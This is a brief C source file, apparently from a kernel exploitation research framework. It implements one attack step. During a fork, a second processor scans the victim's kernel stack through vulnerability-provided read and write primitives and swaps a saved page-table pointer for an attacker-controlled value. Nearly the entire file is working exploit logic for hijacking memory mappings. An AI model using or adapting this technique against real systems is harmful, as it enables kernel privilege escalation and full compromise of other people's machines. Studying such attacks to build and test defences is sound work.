/* While the gate shares a page for a fork, another processor goes for what it has on its stack:
 * which page table that page's entry is in. */
#include "attack.h"

/* The gate is not deep in calls while it has that word, and the word is soon gone: a longer look
 * meets it seldom. */
enum { LOOK_BYTES = 320, WORD = sizeof(uint64_t) };

static void change_stack(const struct attack_gate *gate)
{
	for (uint64_t at = gate->stack - WORD; at >= gate->stack - LOOK_BYTES; at -= WORD) {
		if ((uint64_t)bw_vuln_read(at) == gate->own) {
			gate->done->nr_met++;
			gate->done->nr_stores++;
			attack_check("vuln_write", bw_vuln_write(at, gate->theirs));
		}
	}
}

int main(void) { return attack_gate_fork(change_stack); }
